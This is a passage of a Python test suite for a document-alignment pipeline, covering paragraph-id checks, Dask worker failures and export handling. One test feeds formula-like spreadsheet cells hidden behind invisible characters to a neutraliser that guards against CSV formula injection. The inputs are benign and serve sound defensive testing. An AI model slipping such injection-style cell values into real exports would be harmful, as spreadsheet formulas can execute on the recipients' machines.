    segmented.mkdir(parents=True)
    paragraph = {"doc": "A_1", "lang": "en", "para_id": "en-p0001", "kind": "paragraph", "label": ""}
    paragraph["text"] = "The Commission adopted the report."
    (extracted / "en.jsonl").write_text(json.dumps(paragraph) + "\n", encoding="utf-8")
    sentences = [
        {"doc": "A_1", "lang": "en", "para_id": pid, "sent_id": f"{pid}-s1", "text": paragraph["text"], "tokens": []}
        for pid in ("en-p0001", "en-p0099", "en-p0100")
    ]
    (segmented / "en.jsonl").write_text("".join(json.dumps(s) + "\n" for s in sentences), encoding="utf-8")
    out = tmp_path / "tagged"
    args = ["tag", str(tmp_path / "extracted"), "--segmented", str(tmp_path / "segmented"), "--out", str(out)]
    assert main(["--strict", *args, "--rules-only"]) == 3
    err = capsys.readouterr().err
    assert f"{segmented / 'en.jsonl'}: para_id 'en-p0099' is not in the extract output; segment it again" in err
    assert not (out / "A_1").exists()
    stages = [tmp_path / stage for stage in ("extracted", "segmented", "aligned")]
    aligned = run_align(*stages, Params(), embedder=FakeEmbedder())
    assert "para_id 'en-p0099' is not in the extract output" in aligned.failures[0].problem, "align reads them alike"


def test_hand_made_extract_records_without_a_label_are_aligned(tmp_path: Path) -> None:
    """A list label is optional: a hand-made record without one stopped align with a KeyError."""
    from pipeline.align.stage import run_align
    from pipeline.core.params import Params
    from pipeline.segment.stage import run_segment
    from tests.fakes import FakeEmbedder

    extracted = tmp_path / "extracted" / "A_1"
    extracted.mkdir(parents=True)
    for lang, text in (("en", "The Commission adopted the report."), ("fr", "La Commission a adopté le rapport.")):
        record = {"doc": "A_1", "lang": lang, "para_id": f"{lang}-p0001", "kind": "paragraph", "text": text}
        (extracted / f"{lang}.jsonl").write_text(json.dumps(record) + "\n", encoding="utf-8")
    stages = [tmp_path / stage for stage in ("extracted", "segmented", "aligned")]
    assert not run_segment(stages[0], stages[1]).failures
    aligned = run_align(*stages, Params(), embedder=FakeEmbedder())
    assert not aligned.failures
    assert (stages[2] / "A_1" / "en-fr.paragraphs.jsonl").exists()


def test_a_set_that_fails_in_tag_leaves_no_tag_output(tmp_path: Path) -> None:
    """The languages read before the bad file were written, and an earlier run's tags stayed:
    both passed for tags of the current input."""
    from pipeline.tag.stage import run_tag
    from pipeline.tag.taxonomy import load_taxonomy

    extracted, segmented = tmp_path / "extracted" / "A_1", tmp_path / "segmented" / "A_1"
    extracted.mkdir(parents=True)
    segmented.mkdir(parents=True)
    out = tmp_path / "tagged"
    (out / "A_1").mkdir(parents=True)
    (out / "A_1" / "fr.jsonl").write_text("{}\n", encoding="utf-8")  # an earlier run's
    for lang, text in (("en", "Most speakers supported capacity building."), ("fr", "La plupart des orateurs.")):
        record = {"doc": "A_1", "lang": lang, "para_id": f"{lang}-p0001", "kind": "paragraph", "text": text}
        (extracted / f"{lang}.jsonl").write_text(json.dumps(record) + "\n", encoding="utf-8")
        pid = f"{lang}-p0001" if lang == "en" else "fr-p0099"  # fr's sentences name a paragraph not there
        sentence = {"doc": "A_1", "lang": lang, "para_id": pid, "sent_id": f"{pid}-s1", "text": text, "tokens": []}
        (segmented / f"{lang}.jsonl").write_text(json.dumps(sentence) + "\n", encoding="utf-8")
    taxonomy = load_taxonomy(Path(__file__).parents[1] / "configs" / "taxonomy.yaml")
    report = run_tag(tmp_path / "extracted", tmp_path / "segmented", None, out, taxonomy)
    assert [f.problem for f in report.failures] and "fr-p0099" in report.failures[0].problem
    assert not (out / "A_1").exists()


@pytest.mark.parametrize(
    "cell",
    ["  =1+1", "\u00a0=1+1", "\u200b=HYPERLINK(1)", "\ufeff@SUM(A1)", "\u3000+1", "\u200e-2+3", "\uff1d1+1"],
)
def test_formulas_behind_blanks_or_invisible_characters_are_neutralised(cell: str) -> None:
    """An import that trims spaces, or a cell that starts with a zero-width or direction mark
    pasted from a PDF, still runs what follows as a formula."""
    from pipeline.core.cells import neutralise

    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Twenty-four/seven", " 24/7 network", "\u200bnote", "", "  "])
def test_text_that_no_spreadsheet_runs_is_left_as_it_is(cell: str) -> None:
    from pipeline.core.cells import neutralise

    assert neutralise(cell) == cell


# --- Corpus mode with huge inputs --------------------------------------------------------------


def test_a_resumed_corpus_of_many_rows_hashes_the_shared_inputs_once(tmp_path: Path, monkeypatch) -> None:
    """Every set's key covers the code, the parameters and the 14 MB tagger; read again for each
    of 200 done rows, a resumed 10,000-row corpus spent three minutes hashing before it started."""
    from pipeline.core.params import load_params
    from pipeline.corpus import stage

    settings = {"params": load_params(ROOT / "params.yaml"), "params_path": str(ROOT / "params.yaml")}
    entries = [stage.Entry(f"A/{n}", ("en",), tmp_path / "in" / f"A_{n}") for n in range(200)]
    for entry in entries:
        doc = stage.doc_id(entry.symbol)
        (tmp_path / "out" / "sets" / doc).mkdir(parents=True)
        marker = {"doc": doc, "key": stage.set_key(entry, settings), "failed_languages": {}}
        (tmp_path / "out" / "sets" / doc / "done.json").write_text(json.dumps(marker), encoding="utf-8")
    tagger = settings["params"].tagger_path
    reads: list[Path] = []
    read_bytes = Path.read_bytes
    monkeypatch.setattr(Path, "read_bytes", lambda self: reads.append(self) or read_bytes(self))
    report = stage.run(entries, tmp_path / "out", settings, progress=False)
    assert len(report["skipped"]) == 200 and report["processed"] == 0, "the keys are the same as before"
    tagger_files = list(tagger.parent.glob(tagger.name + ".*"))
    assert sum(path.name.startswith(tagger.name + ".") for path in reads) == len(tagger_files)


def _failing_set(entry, out, settings, key) -> dict:
    """Stands for ``process_set`` on a huge set that turns out unreadable: counts its runs."""
    with open(entry.source / "runs", "a", encoding="utf-8") as handle:
        handle.write("run\n")
    if entry.symbol == "HUGE/1":
        from dask.distributed import KilledWorker

        worker = dataclasses.make_dataclass("Worker", ["address"])("tcp://127.0.0.1:1")
        raise KilledWorker("set-HUGE_1-0123456789", worker, 1)  # as the scheduler raises it
    raise InputError(entry.source / "en.txt", "not text; set skipped")


def _in_process_cluster(**kwargs):
    from distributed.deploy.local import LocalCluster  # the real one: dask.distributed's is this

    cluster = LocalCluster(n_workers=1, threads_per_worker=1, processes=False, dashboard_address=":0")
    _in_process_cluster.allowed_failures = cluster.scheduler.allowed_failures
    return cluster


def test_a_bad_set_runs_once_and_a_set_that_kills_its_workers_is_named(tmp_path: Path, monkeypatch) -> None:
    """Dask retries whatever a task raises: a huge set failing on bad input ran three times (its
    extraction of 50 MB each time), and one that killed its worker ran four times, reported by
    Dask's task key alone."""
    import dask.distributed

    from pipeline.core.params import load_params
    from pipeline.corpus import stage

    for name in ("BAD_1", "HUGE_1"):
        (tmp_path / name).mkdir()
    (tmp_path / "HUGE_1" / "en.txt").write_bytes(b"x" * 2_000_000)
    monkeypatch.setattr(stage, "process_set", _failing_set)
    monkeypatch.setattr(dask.distributed, "LocalCluster", _in_process_cluster)
    entries = [stage.Entry(name.replace("_", "/"), ("en",), tmp_path / name) for name in ("BAD_1", "HUGE_1")]
    settings = {"params": load_params(ROOT / "params.yaml")}
    report = stage.run(entries, tmp_path / "out", settings, workers=1, retries=2, progress=False)
    assert (tmp_path / "BAD_1" / "runs").read_text(encoding="utf-8") == "run\n", "bad input is not retried"
    assert report["failed"]["BAD_1"] == f"InputError: {tmp_path / 'BAD_1' / 'en.txt'}: not text; set skipped"
    assert report["failed"]["HUGE_1"].startswith(f"WorkerDied: {tmp_path / 'HUGE_1'}: every worker that ran")
    assert "largest file: en.txt, 2.0 MB" in report["failed"]["HUGE_1"]
    assert _in_process_cluster.allowed_failures == stage.WORKER_DEATHS == 1


def test_a_missing_source_folder_is_bad_input_and_not_retried(tmp_path: Path) -> None:
    """A bare FileNotFoundError from listing the folder was retried by Dask like any crash."""
    from pipeline.corpus.stage import Entry, run_set

    result = run_set(Entry("A/1", ("en",), tmp_path / "moved-away"), tmp_path / "out", {}, "key")
    problem = f"InputError: {tmp_path / 'moved-away'}: document-set folder not found"
    assert result == {"status": "failed", "problem": problem}


def test_a_symbol_too_long_for_its_file_names_is_refused_by_the_manifest(tmp_path: Path) -> None:
    """A 250-character symbol ran through every stage, then its export's temporary file name
    passed 255 bytes and the export step stopped, the exports of the sets after it unwritten."""
    from pipeline.corpus.stage import load_manifest

    manifest = tmp_path / "manifest.csv"
    rows = [f"A/{'X' * 248},en,{BUNDLED}", f"A/{'X' * 140},en,{BUNDLED}"]
    manifest.write_text("symbol,languages,source\n" + "\n".join(rows[1:]) + "\n", encoding="utf-8")
    assert len(load_manifest(manifest)) == 1
    manifest.write_text("symbol,languages,source\n" + "\n".join(rows) + "\n", encoding="utf-8")
    with pytest.raises(InputError, match=r"line 2: symbol of 250 characters; at most 150"):
        load_manifest(manifest)


def test_a_set_that_failed_this_time_keeps_no_exports_from_its_last_run(tmp_path: Path) -> None:
    """Its store partitions go when its run starts (a huge file that then kills the worker), so
    the exports of its last good run stayed beside a report calling it failed."""
    from pipeline.corpus.stage import EXPORT_SUFFIXES, export_store

    exports = tmp_path / "exports"
    exports.mkdir()
    for doc in ("HUGE_1", "OTHER_1"):
        for suffix in EXPORT_SUFFIXES:
            (exports / f"{doc}{suffix}").write_text("last run\n", encoding="utf-8")
    (tmp_path / "store" / "sixway").mkdir(parents=True)
    assert export_store(tmp_path / "store", exports, {"HUGE_1"}) == []
    assert sorted(p.name for p in exports.iterdir()) == [f"OTHER_1{s}" for s in (".long.csv", ".tmx", ".wide.csv")]


def test_exports_of_unchanged_sets_are_not_rewritten(bundled_stages: Path, tmp_path: Path) -> None:
    """A resumed corpus skips its unchanged sets; rewriting all their exports on every run took
    0.15 s a small document, longer than the run for thousands of sets. A store newer than the
    exports (a run killed between the two) is exported again."""
    from pipeline.corpus.stage import EXPORT_SUFFIXES, export_store, write_store

    write_store(tmp_path / "store", DOC, bundled_stages)
    exports = tmp_path / "exports"
    assert export_store(tmp_path / "store", exports, {DOC}) == [DOC]
    wide = exports / f"{DOC}.wide.csv"
    wide.write_text("kept\n", encoding="utf-8")  # newer than the store: taken as current
    assert export_store(tmp_path / "store", exports, {DOC}) == [DOC]
    assert wide.read_text(encoding="utf-8") == "kept\n"
    for suffix in EXPORT_SUFFIXES:
        os.utime(exports / f"{DOC}{suffix}", ns=(1, 1))
    assert export_store(tmp_path / "store", exports, {DOC}) == [DOC]
    assert wide.read_text(encoding="utf-8") != "kept\n"
